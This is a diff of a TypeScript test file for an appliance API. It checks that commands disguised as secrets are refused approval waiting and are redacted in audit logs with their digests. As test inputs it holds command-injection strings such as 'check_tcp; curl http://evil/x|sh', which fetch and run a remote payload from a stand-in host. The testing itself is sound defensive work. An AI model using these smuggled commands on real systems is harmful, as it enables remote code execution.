@@ -9,19 +9,24 @@ const change = (command: string) => ({
   body: { command },
 });
 
-describe('a command that a caller dresses up as a secret', () => {
-  it.each([
+const disguised: readonly (readonly [command: string, audited: string])[] = [
+  [
     'check_tcp; curl http://evil/x|sh # -----BEGIN PRIVATE KEY-----MIIB',
-    'check_tcp token: curl evil',
-    'check_tcp password="; curl http://evil/x|sh"',
-    "check_tcp --password '; curl http://evil/x|sh'",
-    'check_tcp http://;curl${IFS}evil|sh;@x',
-    'check_tcp secret=curl',
-    'check_tcp Authorization: curl evil',
-    'check_tcp cookie: evil',
-    'check_tcp -a evil',
-    'check_tcp api_key = evil',
-  ])('does not wait for an approver, who would not see it: %s', async (command) => {
+    'check_tcp; curl http://evil/x|sh # -----BEGIN PRIVATE KEY-----[redacted 4 characters]',
+  ],
+  ['check_tcp token: curl evil', 'check_tcp token: [redacted 9 characters]'],
+  ['check_tcp password="; curl http://evil/x|sh"', 'check_tcp password=[redacted 25 characters]'],
+  ["check_tcp --password '; curl http://evil/x|sh'", 'check_tcp --password [redacted 25 characters]'],
+  ['check_tcp http://;curl${IFS}evil|sh;@x', 'check_tcp http://[redacted 19 characters]@x'],
+  ['check_tcp secret=curl', 'check_tcp secret=[redacted 4 characters]'],
+  ['check_tcp Authorization: curl evil', 'check_tcp Authorization: [redacted 9 characters]'],
+  ['check_tcp cookie: evil', 'check_tcp cookie: [redacted 4 characters]'],
+  ['check_tcp -a evil', 'check_tcp -a [redacted 4 characters]'],
+  ['check_tcp api_key = evil', 'check_tcp api_key = [redacted 4 characters]'],
+];
+
+describe('a command that a caller dresses up as a secret', () => {
+  it.each(disguised)('does not wait for an approver, who would not see it: %s', async (command) => {
     const { ask, sent } = await givenApprovals({
       admin: { approvals: { requiredFor: ['disruptive', 'destructive'], ttlMs: 1_800_000, selfApproval: false } },
     });
@@ -30,6 +35,21 @@ describe('a command that a caller dresses up as a secret', () => {
 
     expect(asked.json).toMatchObject({ code: 'cannot_wait', detail: expect.stringContaining('in command') as string });
     expect(sent()).toEqual([]);
+  });
+
+  it('is in the audit with all that is no secret, the length of the rest, and the digest of what was sent', async () => {
+    const { call, audit } = await givenApprovals();
+    const bodies = disguised.map(([command]) => ({ command }));
+
+    for (const body of bodies)
+      await call('root', 'PUT', '/appliances/lb-1/monitoring/fg/check_tcp', body, { 'x-confirm': 'lb-1' });
+
+    const records = await audit();
+    const of = (event: string) => records.filter((each) => each.event === event);
+    const digests = bodies.map((body) => createHash('sha256').update(JSON.stringify(body)).digest('hex'));
+    expect(of('intent').map(({ body }) => body)).toEqual(disguised.map(([, command]) => ({ command })));
+    expect(of('intent').map(({ body_sha256 }) => body_sha256)).toEqual(digests);
+    expect(of('outcome').map(({ sent_sha256 }) => sent_sha256)).toEqual(digests);
   });
 
   it('does not wait in a field for a secret either, nor is it kept', async () => {
@@ -43,23 +63,6 @@ describe('a command that a caller dresses up as a secret', () => {
     });
 
     expect(asked.json).toMatchObject({ code: 'cannot_wait' });
-  });
-
-  it('is in the audit with its length and its digest, in both records, where it is sent', async () => {
-    const { call, audit } = await givenApprovals();
-    const body = { command: 'check_tcp -H HOST; curl http://evil/x|sh # -----BEGIN KEY-----MIIB' };
-
-    await call('root', 'PUT', '/appliances/lb-1/monitoring/fg/check_tcp', body, { 'x-confirm': 'lb-1' });
-
-    const sha256 = createHash('sha256').update(JSON.stringify(body)).digest('hex');
-    expect((await audit()).filter(({ event }) => event === 'intent' || event === 'outcome')).toMatchObject([
-      {
-        event: 'intent',
-        body: { command: 'check_tcp -H HOST; curl http://evil/x|sh # -----BEGIN KEY-----[redacted 4 characters]' },
-        body_sha256: sha256,
-      },
-      { event: 'outcome', sent_sha256: sha256 },
-    ]);
   });
 });
 
